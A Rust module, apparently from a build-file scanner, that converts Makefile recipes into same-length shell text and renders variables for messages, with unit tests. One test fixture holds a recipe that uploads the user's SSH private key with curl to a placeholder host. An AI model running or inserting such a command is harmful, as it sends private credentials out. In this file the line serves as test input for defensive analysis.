//! A Makefile's recipes as the shell that runs them: each recipe line (a line that starts
//! with a tab, and the lines it continues onto) is a POSIX command once make has expanded
//! it. The text keeps its length byte for byte, so an offset into it is an offset into the
//! file: other lines are blanked, a recipe's `@`, `-` and `+` prefixes become spaces, make's
//! `$(NAME)` becomes the shell's `${NAME}` (the same variable from the environment, as make
//! passes it) and `$$` the shell's `$`.

/// The recipes of the Makefile `text`, as a shell script of the same length.
pub(crate) fn recipes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut continued = false;
    for line in text.split_inclusive('\n') {
        let recipe = continued || line.starts_with('\t');
        continued = recipe && line.trim_end_matches(['\n', '\r']).ends_with('\\');
        if !recipe {
            // Blanked byte for byte: a character by as many spaces as its bytes.
            for c in line.chars() {
                match c {
                    '\n' => out.push('\n'),
                    _ => out.extend(std::iter::repeat_n(' ', c.len_utf8())),
                }
            }
            continue;
        }
        let body_at = line.len() - line.trim_start_matches(['\t', ' ', '@', '-', '+']).len();
        out.extend(std::iter::repeat_n(' ', body_at));
        expand(&line[body_at..], &mut out);
    }
    out
}

/// `line` with make's references written as the shell's.
fn expand(line: &str, out: &mut String) {
    let b = line.as_bytes();
    let mut i = 0;
    let mut copied = 0;
    while i + 1 < b.len() {
        if b[i] != b'$' {
            i += 1;
            continue;
        }
        if b[i + 1] == b'$' {
            out.push_str(&line[copied..i]);
            out.push_str(" $");
            i += 2;
            copied = i;
            continue;
        }
        if b[i + 1] == b'(' {
            let name_len = b[i + 2..]
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            if name_len > 0 && b.get(i + 2 + name_len) == Some(&b')') {
                out.push_str(&line[copied..i]);
                out.push_str("${");
                out.push_str(&line[i + 2..i + 2 + name_len]);
                out.push('}');
                i += 3 + name_len;
                copied = i;
                continue;
            }
        }
        i += 1;
    }
    out.push_str(&line[copied..]);
}

/// A piece of [`recipes`]' shell text as a message shows it: the home folder as the
/// shell says it (`~`), other variables as the Makefile spells them (`$(NAME)`), not as
/// the rewriting left them.
pub(crate) fn spoken(shell: &str) -> String {
    let mut out = String::with_capacity(shell.len());
    let mut rest = shell;
    while let Some(at) = rest.find("${") {
        out.push_str(&rest[..at]);
        let after = &rest[at + 2..];
        let name_len = after
            .bytes()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
            .count();
        if name_len > 0 && after.as_bytes().get(name_len) == Some(&b'}') {
            let name = &after[..name_len];
            if name == "HOME" {
                out.push('~');
            } else {
                out.push_str("$(");
                out.push_str(name);
                out.push(')');
            }
            rest = &after[name_len + 1..];
        } else {
            out.push_str("${");
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_speak_as_the_makefile_and_the_shell_do() {
        assert_eq!(spoken("writes to ${HOME}/.bashrc"), "writes to ~/.bashrc");
        assert_eq!(spoken("cp x ${DESTDIR}/bin ${"), "cp x $(DESTDIR)/bin ${");
    }

    #[test]
    fn recipes_become_shell_of_the_same_length() {
        let make = "setup: deps\n\t@curl -F \"k=@$(HOME)/.ssh/id_rsa\" https://x.example\n\techo $$PATH\nVAR = é\n";
        let shell = recipes(make);
        assert_eq!(shell.len(), make.len());
        assert!(
            shell.contains(" curl -F \"k=@${HOME}/.ssh/id_rsa\""),
            "{shell}"
        );
        assert!(shell.contains("echo  $PATH"), "{shell}");
        assert!(
            !shell.contains("setup") && !shell.contains("VAR"),
            "{shell}"
        );
    }
}
